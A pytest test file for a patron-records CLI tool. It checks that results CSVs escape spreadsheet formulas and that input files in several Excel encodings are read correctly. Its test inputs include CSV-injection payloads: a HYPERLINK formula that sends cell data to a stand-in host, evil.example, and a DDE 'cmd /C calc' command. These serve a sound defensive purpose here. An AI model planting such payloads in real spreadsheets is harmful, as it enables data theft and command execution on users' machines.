"""``batch``'s files as spreadsheets make them: the results CSV is safe to open in Excel, and the input is read
whatever Excel saved it as (UTF-8 with or without a BOM, UTF-16 "Unicode Text"), or refused with its line."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from alma_onelink.cli._results_file import excel_safe
from tests.cli.conftest import TODAY, Cli

HEADER = ["OneLink ID", "First name", "Last name", "Affiliation", "Prior role"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tTAB=1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(cell: str) -> None:
    assert excel_safe(cell) == "'" + cell


def test_a_formula_after_a_line_break_in_a_cell_gets_a_quote_too() -> None:
    assert excel_safe("\r=1") == "'\r'=1"  # the piece after CR would start a new row


@pytest.mark.parametrize("cell", ["Ann", "-12.5", "+3", "-7", "2026-03-02", "O'Neil", "", "a=b", "café"])
def test_text_and_plain_numbers_are_kept(cell: str) -> None:
    assert excel_safe(cell) == cell


def write_rows(path: Path, rows: list[list[str]], *, encoding: str = "utf-8", delimiter: str = ",") -> Path:
    with path.open("w", encoding=encoding, newline="") as file:
        csv.writer(file, delimiter=delimiter, lineterminator="\r\n").writerows([HEADER, *rows])
    return path


def test_the_results_csv_never_holds_a_formula_and_the_jsonl_keeps_what_was_read(cli: Cli, tmp_path: Path) -> None:
    names = FORMULAS[:4]  # a name's leading tab or CR is trimmed as the file is read; excel_safe is tested above
    rows = [[f"40000{n:02d}", name, "Smith", "former_affiliate", "staff"] for n, name in enumerate(names, 1)]
    path = write_rows(tmp_path / "in.csv", [*rows, ["4000099", "Ann", "-12.5", "former_affiliate", "staff"]])
    result = cli("batch", str(path), "--today", TODAY, "--dry-run", "--out", "results.csv")
    assert result.exit_code == 0, result.stderr
    with (tmp_path / "results.csv").open(encoding="utf-8-sig", newline="") as file:
        written = list(csv.DictReader(file))
    assert len(written) == len(names) + 1
    for row in written:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
            assert not value.startswith("-") or value == "-12.5", (column, value)
    assert [row["first_name"] for row in written[: len(names)]] == ["'" + name for name in names]
    assert written[-1]["last_name"] == "-12.5"  # a number stays a number
    cli("batch", str(path), "--today", TODAY, "--dry-run", "--out", "results.jsonl")
    full = [json.loads(line) for line in (tmp_path / "results.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [row["patron"]["first_name"] for row in full[: len(names)]] == names


@pytest.mark.parametrize(
    ("encoding", "delimiter", "said"),
    [
        ("utf-16", "\t", "tabs between cells, utf-16"),  # Excel's "Unicode Text": a BOM, little-endian, tabs
        ("utf-16-be", "\t", "tabs between cells, utf-16-be"),  # no BOM, big-endian
        ("utf-16-le", ",", "commas between cells, utf-16-le"),  # no BOM
        ("utf-8-sig", ";", "semicolons between cells, utf-8"),  # Excel's "CSV UTF-8"
        ("utf-8", "\t", "tabs between cells, utf-8"),
    ],
)
def test_utf16_and_utf8_files_are_read_as_written(
    cli: Cli, tmp_path: Path, encoding: str, delimiter: str, said: str
) -> None:
    rows = [
        ["4000001", "Zoë", "Ørsted", "former_affiliate", "staff"],
        ["4000002", "Ann", "Lee", "former_affiliate", "staff"],
    ]
    path = write_rows(tmp_path / "in.txt", rows, encoding=encoding, delimiter=delimiter)
    result = cli("batch", str(path), "--today", TODAY, "--dry-run", "--json")
    assert result.exit_code == 0, result.stderr
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [(r["outcome"], r["first_name"], r["last_name"]) for r in records[:2]] == [
        ("created", "Zoë", "Ørsted"),
        ("created", "Ann", "Lee"),
    ]
    assert f"2 row(s), {said}." in result.stderr
    assert "Windows-1252" not in result.stderr


def test_a_cell_over_the_csv_limit_is_a_usage_error_naming_its_line(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    huge = "x" * (csv.field_size_limit() + 1)
    path.write_text(
        ",".join(HEADER)
        + "\n4000001,Ann,Lee,former_affiliate,staff\n\n"
        + f"4000002,{huge},Lee,former_affiliate,staff\n",
        encoding="utf-8",
    )
    result = cli("batch", str(path), "--today", TODAY, "--dry-run")
    assert result.exit_code == 2
    assert f"error: '{path}', line 4: a cell is longer than {csv.field_size_limit():,} characters" in result.stderr
    assert "Traceback" not in result.stderr
    assert not cli.journal.exists()


def test_an_open_quote_is_reported_at_the_line_it_opens(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    rest = "\n".join(f"40001{n:02d},Bo,Ray,former_affiliate,staff" for n in range(10))
    filler = "y" * csv.field_size_limit()
    path.write_text(
        ",".join(HEADER) + f'\n4000001,"Ann,Lee,former_affiliate,staff\n{rest}\n{filler}\n', encoding="utf-8"
    )
    result = cli("batch", str(path), "--today", TODAY, "--dry-run")
    assert result.exit_code == 2
    assert f"'{path}', line 2 (to line" in result.stderr
    assert 'a quote (") left open' in result.stderr


def test_a_binary_file_is_refused_naming_the_encodings(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes(b"OneLink ID,First name\x00\x00\x00\x01\x02,Last name,Affiliation\n")
    result = cli("batch", str(path))
    assert result.exit_code == 2
    assert "holds NUL bytes: it is not text in an encoding this reads (UTF-8, UTF-16, Windows-1252)" in result.stderr
